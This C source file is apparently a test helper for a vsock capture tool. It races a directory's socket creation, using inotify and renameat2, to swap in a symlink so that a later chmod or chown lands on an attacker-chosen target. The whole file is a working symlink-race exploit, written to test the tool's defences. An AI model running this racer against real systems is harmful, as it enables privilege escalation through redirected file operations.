// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * The directory owner's race against capture --uds (hybrid_attacks.sh):
 * each time a name with "vsockmon-new" appears in DIR (the capture's
 * listener, bound before it is renamed over the VMM's socket), swap it at
 * once for a symlink to TARGET (what was there is then removed). A capture that then changes the name's
 * mode or owner by name changes TARGET's. Writes the number of swaps won
 * to COUNT after each. Runs until killed.
 *
 * Usage: hybrid_racer DIR TARGET COUNT
 */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <sys/inotify.h>

int main(int argc, char **argv)
{
	char buf[8192] __attribute__((aligned(__alignof__(struct inotify_event))));
	unsigned long swaps = 0;
	int in;

	if (argc != 4 || chdir(argv[1]))
		return 2;
	in = inotify_init1(0);
	if (in < 0 || inotify_add_watch(in, ".", IN_CREATE) < 0)
		return 1;
	symlink(argv[2], ".racer-link");
	printf("ready\n");
	fflush(stdout);
	for (;;) {
		ssize_t n = read(in, buf, sizeof(buf));
		char *p;

		if (n <= 0)
			return 1;
		for (p = buf; p < buf + n;) {
			struct inotify_event *e = (struct inotify_event *)p;

			p += sizeof(*e) + e->len;
			if (!e->len || !strstr(e->name, "vsockmon-new"))
				continue;
			/* an exchange: won only while the name is there */
			if (renameat2(AT_FDCWD, ".racer-link", AT_FDCWD,
				      e->name, RENAME_EXCHANGE) == 0) {
				FILE *f = fopen(argv[3], "w");

				swaps++;
				if (f) {
					fprintf(f, "%lu\n", swaps);
					fclose(f);
				}
			}
			unlink(".racer-link");
			symlink(argv[2], ".racer-link");
		}
	}
}
